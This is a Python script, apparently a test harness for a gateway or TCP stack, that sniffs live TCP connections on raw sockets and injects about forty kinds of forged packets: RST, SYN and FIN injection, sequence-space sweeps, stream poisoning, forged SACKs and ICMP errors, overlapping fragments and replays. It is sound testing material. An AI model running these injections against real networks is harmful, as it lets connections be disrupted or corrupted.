#!/usr/bin/env python3
"""Forges packets: `forge.py SEED PLAN`, until SIGTERM.

PLAN is JSON: `wired` and `hop`, the devices by which frames reach the gateway from either side; `sender` and
`receiver`, those at which the real ends are observed; `pace`, packets per second; `begin` and `seconds`, start and
duration; `attacks`, names from ATTACKS below, which alternate; `port`, the server's; `ahead`: distance in bytes beyond
the receiver's window to poison, and number of segments. The forger observes every frame of the receiver and a part of
the sender's (one frame in eight, and every SYN), and so knows the connections and their sequence numbers; the attack
determines how it uses them. If an attack depends on the receiver's window, it forges only after reading all pending
frames, so that the window is the last one advertised. Prints one line of JSON: `forged`, its counts, and `inside`, the
number of forged segments meant to lie outside the receiver's window that reached it inside.
"""
import collections
import ctypes
import json
import random
import select
import signal
import socket
import struct
import sys
import time

FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32
FORGED = b"EVIL"
WRAP = 1 << 32
# As given, see above.
PLAN = {}
# Time in seconds without a packet after which a flow counts as over.
SILENT = 3.0
# Attacks whose segments only the window keeps from the receiver.
BEYOND = ("poison", "outside")


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def internet(family, source, destination, protocol, payload):
    """Returns an IP packet."""
    if family == 4:
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.getrandbits(16), 0x4000, 64, protocol, 0, source, destination)
        return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload
    return struct.pack("!IHBB16s16s", 6 << 28, len(payload), protocol, 64, source, destination) + payload


def pseudo(family, source, destination, protocol, length):
    return source + destination + (struct.pack("!BBH", 0, protocol, length) if family == 4 else struct.pack("!II", length, protocol))


def blocks_option(blocks):
    """Returns SACK blocks with padding."""
    return b"\x01\x01" + struct.pack("!BB", 5, 2 + 8 * len(blocks)) + b"".join(struct.pack("!II", start % WRAP, end % WRAP) for start, end in blocks)


class Way:
    """One direction of a flow, as observed."""

    def __init__(self):
        self.source = self.destination = self.frame = b""
        self.ports = (0, 0)
        # Properties of the newest packet: the number after it, its acknowledgment, its raw window, its timestamp.
        self.next = self.ack = self.window = self.val = 0
        self.scale = 0
        # Set once a packet other than a SYN was seen, and once a SYN was seen, which has the window scale.
        self.is_open = self.has_begun = False
        # Some of its packets.
        self.kept = collections.deque(maxlen=200)
        self.payload = (0, b"")


class Flow:
    """Open connection: `down` towards the hop, `up` from it."""

    def __init__(self, family):
        self.family = family
        self.down, self.up = Way(), Way()
        self.heard = 0.0
        # Forged segments meant to lie beyond the receiver's window, until they reach it: number to length in bytes.
        self.beyond = {}

    def is_known(self):
        # Both ends are known after their handshake: half-open connections are easier to break, which is not tested
        # here.
        return self.down.is_open and self.up.is_open and self.down.has_begun and self.up.has_begun

    def room(self):
        """Returns the receive window of the hop's end, in bytes after its acknowledgment."""
        return self.up.window << self.up.scale

    def segment(self, towards, seq, ack, flags, payload=b"", window=None, stamps="current", options=b""):
        """Returns a forged frame. `stamps`: None, a pair, or `current` for the real ones."""
        way, other = (self.down, self.up) if towards == "down" else (self.up, self.down)
        if stamps == "current":
            stamps = (way.val, other.val) if way.val else None
        if stamps:
            options = b"\x01\x01" + struct.pack("!BBII", 8, 10, stamps[0] % WRAP, stamps[1] % WRAP) + options
        options += b"\x01" * (-len(options) % 4)
        window = way.window if window is None else window
        tcp = struct.pack("!HHIIBBHHH", *way.ports, seq % WRAP, ack % WRAP, (5 + len(options) // 4) << 4, flags, window, 0, 0) + options + payload
        total = checksum(pseudo(self.family, way.source, way.destination, 6, len(tcp)) + tcp)
        tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:]
        return way.frame + internet(self.family, way.source, way.destination, 6, tcp)


class Heard:
    """Packets of the real ends."""

    # One in eight, and each SYN: `ld #rand; and #7; jeq #0`, with the flags' offset for packets without IPv6 extension
    # headers.
    SAMPLE = [
        (0x20, 0, 0, 0xFFFFF038), (0x54, 0, 0, 7), (0x15, 6, 0, 0),
        (0x28, 0, 0, 12), (0x15, 0, 2, 0x0800), (0x30, 0, 0, 14 + 20 + 13), (0x05, 0, 0, 1), (0x30, 0, 0, 14 + 40 + 13),
        (0x45, 0, 1, SYN), (0x06, 0, 0, 2048), (0x06, 0, 0, 0),
    ]
    EVERYTHING = [(0x06, 0, 0, 2048)]
    # Forged packets, recognised after a TCP header of 32 bytes, that of segments with timestamps.
    OWN = [
        (0x28, 0, 0, 12), (0x15, 0, 2, 0x0800), (0x20, 0, 0, 14 + 20 + 32), (0x05, 0, 0, 1), (0x20, 0, 0, 14 + 40 + 32),
        (0x15, 0, 1, int.from_bytes(FORGED, "big")), (0x06, 0, 0, 128), (0x06, 0, 0, 0),
    ]

    def __init__(self, sender, receiver, port):
        self.port, self.flows = port, {}
        self.inside = 0
        self.codes, self.sockets = [], {}
        for name, device, lines in (("down", sender, self.SAMPLE), ("up", receiver, self.EVERYTHING), ("arriving", receiver, self.OWN)):
            heard = self.sockets[name] = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
            text = b"".join(struct.pack("HBBI", *line) for line in lines)
            code = ctypes.create_string_buffer(text, len(text))
            self.codes.append(code)
            # SO_ATTACH_FILTER; SOL_PACKET, PACKET_IGNORE_OUTGOING; SO_RCVBUFFORCE
            heard.setsockopt(socket.SOL_SOCKET, 26, struct.pack("HP", len(lines), ctypes.addressof(code)))
            heard.setsockopt(263, 23, int(name != "arriving"))
            heard.setsockopt(socket.SOL_SOCKET, 33, 16 << 20)
            heard.bind((device, 3))
            heard.setblocking(False)

    def listen(self, most=64):
        """Processes received frames. Returns whether that was all the receiver has sent."""
        self.read("down", most)
        arriving = []
        self.read("arriving", most, lambda _, frame: arriving.append(frame))
        # The frames that arrived are evaluated afterwards: the window known then is that at their arrival, or a later
        # one.
        everything = self.read("up", 8 * most)
        for frame in arriving:
            self.arrive(frame)
        # PACKET_STATISTICS: if frames are missing, the window is unknown.
        if struct.unpack("II", self.sockets["up"].getsockopt(263, 6, 8))[1]:
            self.flows.clear()
        return everything

    def read(self, name, most, take=None):
        for _ in range(most):
            try:
                frame, _, _, address = self.sockets[name].recvmsg(2048)
            except OSError:
                return True
            # "arriving" also sees the frames that the receiver sends.
            if name != "arriving" or address[2] == socket.PACKET_OUTGOING:
                (take or self.take)(name, frame)
        return False

    def arrive(self, frame):
        """Checks a forged segment at the receiver against the last window that it has advertised."""
        start = 34 if frame[12:14] == b"\x08\x00" else 54
        destination = frame[30:34] if start == 34 else frame[38:54]
        source_port, port, seq = struct.unpack_from("!HHI", frame, start)
        flow = self.flows.get((destination, source_port, port))
        length = flow.beyond.pop(seq, None) if flow else None
        if length is not None:
            ack, edge = flow.up.ack, (flow.up.ack + flow.room()) % WRAP
            self.inside += (edge - seq - 1) % WRAP < WRAP // 2 and (seq + length - ack - 1) % WRAP < WRAP // 2

    def take(self, towards, frame):
        kind = frame[12:14]
        if kind == b"\x08\x00" and frame[23] == 6 and frame[14] == 0x45:
            family, start, addresses = 4, 34, (frame[26:30], frame[30:34])
        elif kind == b"\x86\xdd" and frame[20] == 6:
            family, start, addresses = 6, 54, (frame[22:38], frame[38:54])
        else:
            return
        if len(frame) < start + 20:
            return
        total = struct.unpack_from("!H", frame, 16)[0] + 14 if family == 4 else struct.unpack_from("!H", frame, 18)[0] + 54
        source, destination, seq, ack, offset, flags, window = struct.unpack_from("!HHIIBBH", frame, start)
        if self.port not in (source, destination):
            return
        key = (addresses[1], destination, source) if towards == "down" else (addresses[0], source, destination)
        flow = self.flows.get(key)
        if flow is None or flags & (SYN | ACK) == SYN:
            flow = self.flows[key] = Flow(family)
        way = flow.down if towards == "down" else flow.up
        way.source, way.destination = addresses
        way.ports, way.frame = (source, destination), frame[:14]
        flow.heard = time.monotonic()
        head = (offset >> 4) * 4
        length = max(0, total - start - head)
        self.options(way, frame[start + 20:start + head], flags)
        behind = (seq + length + bool(flags & SYN) + bool(flags & FIN)) % WRAP
        if not way.next or (behind - way.next) % WRAP < WRAP // 2:
            way.next, way.ack, way.window = behind, ack, window
        way.kept.append(frame)
        way.is_open |= not flags & SYN
        way.has_begun |= bool(flags & SYN)
        if length:
            way.payload = (seq, frame[start + head:])
        if flags & (FIN | RST):
            flow.heard -= SILENT - 0.2

    @staticmethod
    def options(way, options, flags):
        place = 0
        while place < len(options) and options[place]:
            if options[place] == 1:
                place += 1
                continue
            length = options[place + 1] if place + 1 < len(options) else 0
            if length < 2 or place + length > len(options):
                return
            if options[place] == 3 and flags & SYN:
                way.scale = min(14, options[place + 2])
            elif options[place] == 8 and length == 10:
                way.val = struct.unpack_from("!I", options, place + 2)[0]
            place += length

    def alive(self):
        now = time.monotonic()
        for key in [key for key, flow in self.flows.items() if now - flow.heard > SILENT]:
            del self.flows[key]
        return [flow for flow in self.flows.values() if flow.is_known()]


# Each attack takes a flow and a random generator, and yields the frames to send, as pairs of the side they come from
# and the frame. Frames towards the hop come from the wired side, and vice versa.

def either(dice):
    return dice.choice(("down", "up"))


def side(towards):
    return "wired" if towards == "down" else "hop"


def blind(towards, flags, payload=0, **fields):
    """Only addresses and ports are known."""
    def forge(flow, dice):
        to = towards or either(dice)
        bits = dice.getrandbits
        body = (FORGED * 400)[:payload]
        yield side(to), flow.segment(to, bits(32), bits(32), flags, body, window=fields.get("window", bits(16)),
                                     stamps=(bits(32), bits(32)) if fields.get("stamps", True) else None, options=fields.get("options", b""))
    return forge


def blind_pairs(flow, dice):
    """Two segments with the same acknowledgment, one below the other."""
    seq, ack, val = dice.getrandbits(32), dice.getrandbits(32), dice.getrandbits(32)
    for step in (2000, 0):
        yield "wired", flow.segment("down", seq + step, ack, ACK | PSH, FORGED * 250, stamps=(val, flow.up.val))


def blind_opaque(flow, dice):
    """Unknown options."""
    to = either(dice)
    yield side(to), flow.segment(to, dice.getrandbits(32), dice.getrandbits(32), ACK, options=struct.pack("!BB6s", 0xFD, 8, b"unknwn"))


def poison(old):
    def forge(flow, dice):
        """Segments ahead of the stream, outside the receiver's window, contiguous, which the stream will reach."""
        del dice
        ahead, count = PLAN["ahead"]
        start, done = getattr(flow, "poisoned", (0, count))
        edge = flow.up.ack + flow.room()
        if (edge - start) % WRAP < WRAP // 2 or not start:
            start, done = (edge + ahead) % WRAP, 0
        if (start + 1400 * done - edge - max(ahead // 2, 4 * flow.room())) % WRAP > WRAP // 2:
            # The window has come too near: the receiver might accept the segment. Data that arrives before it was sent
            # into this window, and moves it by at most a window, or twice that if the kernel enlarges the buffer.
            done = count
        if done < count:
            flow.beyond[(start + 1400 * done) % WRAP] = 1400
            val = flow.down.val - (100_000 if old else 0)
            yield "wired", flow.segment("down", start + 1400 * done, flow.up.next, ACK | PSH, FORGED * 350, stamps=(val, flow.up.val))
            done += 1
        flow.poisoned = (start, done)
    return forge


def poison_near(flow, dice):
    """Data near the window's edge, with an acknowledgment of data that was never sent."""
    seq = flow.down.next + flow.room() // 2 + dice.randrange(flow.room() + 1)
    yield "wired", flow.segment("down", seq, flow.up.next + dice.randrange(1 << 20, 1 << 30), ACK, FORGED * 300)


def outside(flow, dice):
    """Data just outside the window: below the acknowledgment, or above the right edge."""
    edge = flow.up.ack + flow.room()
    seq = flow.up.ack - dice.randrange(3000, 200_000) if dice.random() < 0.5 else edge + dice.randrange(200_000, 1_000_000)
    flow.beyond[seq % WRAP] = 1200
    yield "wired", flow.segment("down", seq, flow.up.next, ACK | PSH, FORGED * 300)


def overlap(flow, dice):
    """Other bytes with the numbers of recent data: a device that sees both must not mix them up."""
    seq, payload = flow.down.payload
    if not payload:
        return
    cut = dice.choice((0, 1, 100, len(payload) // 2))
    yield "wired", flow.segment("down", seq + cut, flow.up.next, ACK, (FORGED * 400)[:max(1, len(payload) - cut)])


def future_stamps(flow, dice):
    """Timestamps from the future on segments without data, ahead in the window, and on old data."""
    val = flow.down.val + dice.randrange(1 << 20, 1 << 30)
    if dice.random() < 0.5:
        # The receiver accepts the acknowledgment: one for data in flight would hide losses permanently.
        yield "wired", flow.segment("down", flow.up.ack + dice.randrange(2, max(3, flow.room())), flow.down.ack, ACK, stamps=(val, flow.up.val))
    else:
        yield "wired", flow.segment("down", flow.up.ack - dice.randrange(20_000, 400_000), flow.up.next, ACK, FORGED * 100, stamps=(val, flow.up.val))


def future_echoes(flow, dice):
    """Old acknowledgments from the hop that echo timestamps which have not been sent yet."""
    yield "hop", flow.segment("up", flow.up.next, flow.up.ack - dice.randrange(1 << 16), ACK, stamps=(flow.up.val - 5000, flow.down.val + dice.randrange(1 << 28)))


def fin_near(flow, dice):
    """FIN at impossible numbers: below the acknowledgment, or above the window."""
    far = flow.room() + dice.randrange(1 << 17, 1 << 20)
    for to, way, other in (("down", flow.down, flow.up), ("up", flow.up, flow.down)):
        seq = way.next + far if dice.random() < 0.5 else other.ack - dice.randrange(1 << 16, 1 << 20)
        yield side(to), flow.segment(to, seq, other.next, ACK | FIN)


def fin_under_way(flow, dice):
    """FIN within the data in flight: the receiver accepts it, until the data at that number arrives."""
    sent = (flow.down.next - flow.up.ack) % WRAP
    if 0 < sent < WRAP // 2:
        yield "wired", flow.segment("down", flow.up.ack + dice.randrange(1, sent + 1), flow.up.next, ACK | FIN)


def reset_near(flow, dice):
    """RST in the window but not at the next number: RFC 5961 requires a challenge, nothing more."""
    to = either(dice)
    other = flow.up if to == "down" else flow.down
    yield side(to), flow.segment(to, other.ack + dice.randrange(2, max(3, (other.window << other.scale) // 2)), 0, RST)


def syn_near(flow, dice):
    to = either(dice)
    way, other = (flow.down, flow.up) if to == "down" else (flow.up, flow.down)
    number = way.next + dice.randrange(-50_000, 50_000)
    yield side(to), flow.segment(to, number, other.next, dice.choice((SYN, SYN | ACK)), options=struct.pack("!BBHBBBx", 2, 4, dice.choice((88, 536, 9000)), 3, 3, 14))


def sweep(flags):
    """Covers the whole sequence space in steps of 2^16."""
    def forge(flow, dice):
        del dice
        flow.swept = getattr(flow, "swept", 0) + 1
        to = "down" if flow.swept % 2 else "up"
        yield side(to), flow.segment(to, flow.swept << 15, 0, flags, stamps=None)
    return forge


def zero_window(flow, dice):
    """Zero window, with very old acknowledgments, or for data that was never sent."""
    ack = flow.up.ack - dice.randrange(1 << 17, 1 << 22) if dice.random() < 0.5 else flow.down.next + dice.randrange(1 << 20, 1 << 24)
    yield "hop", flow.segment("up", flow.up.next, ack, ACK, window=0)


def zero_window_now(flow, dice):
    """Zero window, with the current acknowledgment, or a slightly old one."""
    yield "hop", flow.segment("up", flow.up.next, flow.up.ack - dice.choice((0, 0, 1448, 14_480)), ACK, window=0)


def wide_window(flow, dice):
    """Excessive window from outside the window."""
    yield "hop", flow.segment("up", flow.up.next - dice.randrange(1 << 17, 1 << 22), flow.up.ack - dice.randrange(1 << 20), ACK, window=65_535)


def ack_ahead(flow, dice):
    """Acknowledgments of data that was never sent."""
    yield "hop", flow.segment("up", flow.up.next, flow.down.next + dice.choice((1 << 20, 5_000_000, 1 << 28)) + dice.randrange(1 << 20), ACK)


def forged_blocks(flow, dice):
    """SACK blocks for data that was never sent, or acknowledged long ago."""
    high = flow.down.next + dice.randrange(1 << 20, 1 << 26)
    low = flow.up.ack - dice.randrange(1 << 20, 1 << 26)
    start = dice.getrandbits(32)
    yield "hop", flow.segment("up", flow.up.next, flow.up.ack - 100_000, ACK, options=blocks_option([(high, high + 1448), (low, low + 100_000), (start, start + dice.getrandbits(31))]))


def blocks_under_way(flow, dice):
    """SACK blocks for data in flight, which the sender believes as well."""
    ahead = (flow.down.next - flow.up.ack) % WRAP
    if 5000 < ahead < WRAP // 2:
        start = flow.up.ack + dice.randrange(1448, ahead - 1448)
        yield "hop", flow.segment("up", flow.up.next, flow.up.ack, ACK, options=blocks_option([(start, start + 1448)]))


def duplicates_now(flow, dice):
    """The current acknowledgment four times."""
    del dice
    for _ in range(4):
        yield "hop", flow.segment("up", flow.up.next, flow.up.ack, ACK)


def replay(flow, dice):
    """Replays real packets some time later."""
    for towards, way in (("down", flow.down), ("up", flow.up)):
        if way.kept:
            yield side(towards), dice.choice(way.kept)


def duplicates(flow, dice):
    """Duplicate acknowledgments from behind the hop; they are old, so the sender ignores them."""
    for _ in range(4):
        yield "hop", flow.segment("up", flow.up.next, flow.up.ack - dice.randrange(1 << 17, 1 << 20), ACK)


def wired_acks(flow, dice):
    """Acknowledgments that seem to come from the server, for data that the hop's end has not sent."""
    yield "wired", flow.segment("down", flow.down.next - dice.randrange(1 << 18, 1 << 22), flow.up.next + dice.randrange(1 << 20, 1 << 30), ACK, window=0)


def icmp(flow, dice):
    """ICMP unreachable and packet too big; the quoted sequence number is made up."""
    to = either(dice)
    way, other = (flow.down, flow.up) if to == "up" else (flow.up, flow.down)
    quoted = struct.pack("!HHI", *way.ports, dice.getrandbits(32))
    if flow.family == 4:
        inner = internet(4, way.source, way.destination, 6, quoted + bytes(12))
        body = dice.choice((struct.pack("!BBHHH", 3, 4, 0, 0, dice.choice((68, 576, 1280))), struct.pack("!BBHI", 3, dice.choice((1, 2, 3)), 0, 0))) + inner[:28]
        body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
        packet = internet(4, other.source, way.source, 1, body)
    else:
        inner = internet(6, way.source, way.destination, 6, quoted + bytes(12))
        body = dice.choice((struct.pack("!BBHI", 2, 0, 0, 1280), struct.pack("!BBHI", 1, dice.choice((0, 3, 4)), 0, 0))) + inner
        total = checksum(pseudo(6, other.source, way.source, 58, len(body)) + body)
        packet = internet(6, other.source, way.source, 58, body[:2] + struct.pack("!H", total) + body[4:])
    yield side(to), other.frame + packet


def garbage(flow, dice):
    """Headers with bit errors, with right or wrong checksums, outside of any window."""
    to = either(dice)
    frame = bytearray(flow.segment(to, dice.getrandbits(32), dice.getrandbits(32), dice.getrandbits(8), bytes(dice.randrange(200)), stamps=(dice.getrandbits(32),) * 2,
                                   options=dice.randbytes(4 * dice.randrange(6))))
    for _ in range(dice.randrange(4)):
        frame[dice.randrange(34 if flow.family == 4 else 54, len(frame))] ^= 1 << dice.randrange(8)
    yield side(to), bytes(frame)


def fragments(flow, dice):
    """Segment with made-up numbers in two overlapping fragments (RFC 5722); over IPv6 with fragment headers."""
    to = either(dice)
    frame = flow.segment(to, dice.getrandbits(32), dice.getrandbits(32), ACK | PSH, FORGED * 100)
    start = 34 if flow.family == 4 else 54
    whole, number = frame[start:], dice.getrandbits(16)
    for offset, data, more in ((0, whole[:208], 1), (dice.choice((8, 64, 200)), whole[200:], 0)):
        if flow.family == 4:
            head = frame[14:18] + struct.pack("!HH", number, more << 13 | offset // 8) + frame[22:24] + b"\0\0" + frame[26:34]
            head = head[:2] + struct.pack("!H", 20 + len(data)) + head[4:]
            head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
            yield side(to), frame[:14] + head + data
        else:
            fragment = struct.pack("!BBHI", 6, 0, offset | more, number)
            yield side(to), frame[:18] + struct.pack("!HBB", 8 + len(data), 44, 64) + frame[22:54] + fragment + data


class Strangers:
    """SYNs from unused addresses and ports."""

    def __call__(self, flow, dice):
        yield "hop", self.opening(flow, dice)

    @staticmethod
    def opening(flow, dice):
        way = flow.up
        source = way.source[:-1] + bytes([dice.randrange(100, 250)])
        options = struct.pack("!BBH", 2, 4, 1460)
        tcp = struct.pack("!HHIIBBHHH", dice.randrange(1024, 65536), way.ports[1], dice.getrandbits(32), 0, 6 << 4, SYN, 64_000, 0, 0) + options
        total = checksum(pseudo(flow.family, source, way.destination, 6, len(tcp)) + tcp)
        tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:]
        return way.frame + internet(flow.family, source, way.destination, 6, tcp)


ATTACKS = {
    "blind-data": blind("down", ACK | PSH, 1000), "blind-pairs": blind_pairs, "blind-opaque": blind_opaque,
    "blind-ack": blind("up", ACK), "blind-window": blind("up", ACK, window=0), "blind-up": blind("up", ACK | PSH, 1000),
    "blind-rst-down": blind("down", RST, stamps=False), "blind-rst-up": blind("up", RST, stamps=False),
    "blind-syn-down": blind("down", SYN), "blind-syn-up": blind("up", SYN), "blind-synack": blind("down", SYN | ACK),
    "blind-fin-down": blind("down", FIN | ACK), "blind-fin-up": blind("up", FIN | ACK),
    "poison": poison(False), "poison-old": poison(True), "poison-near": poison_near, "outside": outside, "overlap": overlap,
    "future-stamps": future_stamps, "future-echoes": future_echoes, "fin-near": fin_near, "fin-under-way": fin_under_way, "reset-near": reset_near, "syn-near": syn_near,
    "reset-sweep": sweep(RST), "syn-sweep": sweep(SYN), "zero-window": zero_window, "wide-window": wide_window, "ack-ahead": ack_ahead,
    "zero-window-now": zero_window_now, "blocks-under-way": blocks_under_way, "duplicates-now": duplicates_now, "replay": replay,
    "forged-blocks": forged_blocks, "duplicates": duplicates, "wired-acks": wired_acks, "icmp": icmp, "garbage": garbage, "fragments": fragments, "strangers": Strangers(),
}


def main(seed, plan):
    dice, plan = random.Random(seed), json.loads(plan)
    PLAN.update(plan)
    over = []
    signal.signal(signal.SIGTERM, lambda *_: over.append(True))
    heard = Heard(plan["sender"], plan["receiver"], plan["port"])
    outlets = {}
    for name in ("wired", "hop"):
        outlets[name] = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        outlets[name].bind((plan[name], 0))
    counts = dict.fromkeys(plan["attacks"], 0)
    print("ready", flush=True)
    begun = time.monotonic()
    begin, end, turn = begun + plan["begin"], begun + plan["begin"] + plan["seconds"], 0
    sent, known = 0, None
    while not over:
        now = time.monotonic()
        everything = heard.listen()
        due = int((min(now, end) - begin) * plan["pace"]) if now > begin else 0
        flows = heard.alive() if sent < due else ()
        if flows:
            known = flows
        # This attack needs no open connection.
        for _ in range(min(due - sent, 200)):
            name = plan["attacks"][turn % len(plan["attacks"])]
            turn += 1
            candidates = flows or (known if name == "strangers" else None)
            sent += 1
            if not candidates or name in BEYOND and not everything:
                continue
            for place, frame in ATTACKS[name](dice.choice(candidates), dice):
                try:
                    outlets[place].send(frame)
                    counts[name] += 1
                except OSError:
                    # The device's queue is full.
                    break
        select.select(list(heard.sockets.values()), [], [], 0.001 if sent < due else 0.005)
    heard.listen(1 << 20)
    print(json.dumps({"forged": counts, "inside": heard.inside}))


if __name__ == "__main__":
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    main(*sys.argv[1:])
